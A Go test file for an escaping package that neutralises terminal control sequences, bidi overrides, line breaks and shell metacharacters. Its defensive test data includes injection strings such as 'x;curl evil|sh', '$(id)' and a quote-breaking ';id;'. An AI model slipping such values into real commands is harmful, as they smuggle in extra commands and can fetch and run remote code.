package escape

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestControlCharactersOfATextAreEscaped(t *testing.T) {
	for text, want := range map[string]string{
		"plain\ttext\n":              "plain\ttext\n",
		"größer ├── 日本 🎉":            "größer ├── 日本 🎉",
		"a\x1b]0;PWN\x07":            `a\u001b]0;PWN\u0007`,
		"over\rwritten":              `over\u000dwritten`,
		"c1 \u009b31m":               `c1 \u009b31m`,
		"a byte \x9b31m":             `a byte \x9b31m`,
		"back\bspace\x7f":            `back\u0008space\u007f`,
		"\u202egnp.exe \u2066\u2069": `\u202egnp.exe \u2066\u2069`,
		"\u2028\u2029\u200f\u061c":   `\u2028\u2029\u200f\u061c`,
		"a replacement �":            "a replacement �",
		"\x00":                       `\u0000`,
	} {
		if got := Text(text); got != want {
			t.Errorf("%q is %q, want %q", text, got, want)
		}
	}
}

func TestFieldHasNoLineBreak(t *testing.T) {
	for field, want := range map[string]string{
		"plain":                    "plain",
		"web\n  Pod shop/db\n":     `web\n  Pod shop/db\n`,
		"a column\tmore":           `a column\tmore`,
		"a form feed\fand \v that": `a form feed\u000cand \u000b that`, // line ends to text/tabwriter
		"\r\n\x1b[2J\u202e\u009b":  `\u000d\n\u001b[2J\u202e\u009b`,
	} {
		if got := Line(field); got != want {
			t.Errorf("%q is %q, want %q", field, got, want)
		}
	}
}

// stringer is a name of another type than string.
type stringer string

func (s stringer) String() string { return string(s) }

// No argument of any type begins a line.
func TestArgumentBeginsNoLine(t *testing.T) {
	const hostile, want = "a\nb\t\x1b", `a\nb\t\u001b`
	type named string
	for _, arg := range []any{hostile, stringer(hostile), errors.New(hostile), named(hostile), []byte(hostile)} {
		if got := Sprintf("%s:\t%d\n", arg, 7); got != want+":\t7\n" {
			t.Errorf("%T is %q", arg, got)
		}
	}
	for format, want := range map[string]string{"%v": "[" + want + "]", "%q": `["a\nb\t\x1b"]`} {
		if got := Sprintf(format, []string{hostile}); got != want {
			t.Errorf("%s is %q, want %q", format, got, want)
		}
	}
	if got := Sprintf("%-6s|%5.1f|%t|%03d", "a\n", 1.25, true, 7); got != `a\n   |  1.2|true|007` {
		t.Errorf("%q", got)
	}
}

// FuzzLine: no field ends a line or a column, or controls a terminal, and escaping it again changes nothing.
func FuzzLine(f *testing.F) {
	for _, field := range []string{"", "a\x1b[2Jb\n", "größer 日本 🎉\u009b\u202e", "\xf0\x9f\x8e\t", "\x9b\xff\xc2\r\f\v"} {
		f.Add(field)
	}
	f.Fuzz(func(t *testing.T, field string) {
		line := Line(field)
		if strings.ContainsAny(line, "\n\t") || strings.ContainsFunc(line, Controls) || !utf8.ValidString(line) {
			t.Errorf("%q is %q", field, line)
		}
		if Line(line) != line {
			t.Errorf("%q is %q when it is escaped again", line, Line(line))
		}
		if got := Sprintf("%s\n%v\n", field, fmt.Errorf("read %s", field)); got != line+"\nread "+line+"\n" {
			t.Errorf("%q", got)
		}
	})
}

// A name in a command cannot run another command.
func TestNameInACommandRunsNoOther(t *testing.T) {
	for word, want := range map[string]string{
		"pods/web-0": "pods/web-0", "roles.rbac.authorization.k8s.io/system:node": "roles.rbac.authorization.k8s.io/system:node",
		"": "''", "a b": "'a b'", "x;curl evil|sh": "'x;curl evil|sh'", "$(id)": "'$(id)'", "`id`": "'`id`'", "~": "'~'", "a\nid": `'a\nid'`,
		"it's": `'it'\''s'`, "';id;'": `''\'';id;'\'''`, "größe": "'größe'", "a\x1b": `'a\u001b'`,
	} {
		if got := Shell(word); got != want {
			t.Errorf("%q is %s, want %s", word, got, want)
		}
	}
}
